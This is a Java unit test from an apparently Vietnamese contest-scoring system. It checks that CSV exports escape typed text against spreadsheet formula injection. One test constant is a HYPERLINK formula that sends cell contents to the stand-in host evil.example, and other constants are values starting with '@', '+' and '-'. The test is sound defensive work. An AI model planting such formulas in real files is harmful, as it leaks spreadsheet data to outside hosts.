package diemcau.finale;

import static org.assertj.core.api.Assertions.assertThat;

import diemcau.support.Rest;
import diemcau.support.TestServer;
import io.vertx.core.json.JsonObject;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

@DisplayName("Every export writes what people typed as text a spreadsheet never runs")
class ExportInjectionTest {

  private static final String TITLE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")";
  private static final String REPRESENTATIVE = "+84 912 345 678";
  private static final String JUDGE = "@SUM(1+1)";
  private static final String REASON = "-1+1 sửa lại điểm sáng tạo";

  private TestServer server;
  private FinalFixture fixture;

  @BeforeEach
  void start() throws Exception {
    server = TestServer.start();
    fixture = new FinalFixture(server);
  }

  @AfterEach
  void stop() throws Exception {
    server.close();
  }

  @Test
  @DisplayName("titles, representatives, judge names and correction reasons come out escaped in every file")
  void typedTextIsEscaped() throws Exception {
    fixture.stage2();
    String first = States.FINALISTS.get(0);
    fixture.ok(fixture.admin("stage2.entry", new JsonObject().put("unit", first).put("title", TITLE)
        .put("representative", REPRESENTATIVE).put("contact", "a@example.vn").put("channel", "email")
        .put("receivedAt", FinalFixture.IN_STAGE2)));
    fixture.ok(fixture.admin("final.finalists.confirm", new JsonObject()));
    List<String> judges = new ArrayList<>(fixture.judges(2));
    Rest.Reply created = Rest.post(server.port, "/api/final/judges", TestServer.ADMIN_TOKEN, new JsonObject().put("name", JUDGE).encode());
    assertThat(created.status()).as(created.body().encode()).isEqualTo(200);
    judges.add(created.body().getString("token"));
    fixture.scoreAll(judges, FinalFixture::distinct);
    fixture.ok(fixture.as(judges.get(2), "judge.correct", new JsonObject().put("unit", first)
        .put("scores", FinalFixture.distinct(0, 0)).put("reason", REASON)));
    fixture.ok(fixture.admin("final.finalise", new JsonObject()));

    List<CSVRecord> results = download("results.csv");
    List<CSVRecord> scores = download("scores.csv");
    List<CSVRecord> certificates = download("certificates.csv");
    List<CSVRecord> log = download("score-log.csv");
    assertThat(cells(results)).contains("'" + TITLE).contains("GK " + JUDGE);
    assertThat(cells(certificates)).contains("'" + TITLE, "'" + REPRESENTATIVE);
    assertThat(cells(scores)).contains("'" + JUDGE);
    assertThat(cells(log)).contains("'" + REASON);
    for (List<CSVRecord> file : List.of(results, scores, certificates, log)) {
      assertThat(cells(file)).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
          .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
    }
    // the figures are still figures
    assertThat(results.get(1).toList()).contains("80.25", "Giải Nhất", "10000000");
  }

  private List<CSVRecord> download(String file) throws Exception {
    Rest.Reply reply = Rest.get(server.port, "/api/final/export/" + file, TestServer.ADMIN_TOKEN);
    assertThat(reply.status()).as(file).isEqualTo(200);
    String text = reply.body().getString("text");
    assertThat(text).startsWith("\uFEFF");
    return CSVFormat.DEFAULT.parse(new StringReader(text.substring(1))).getRecords();
  }

  private static List<String> cells(List<CSVRecord> records) {
    return records.stream().flatMap(record -> record.stream()).toList();
  }
}
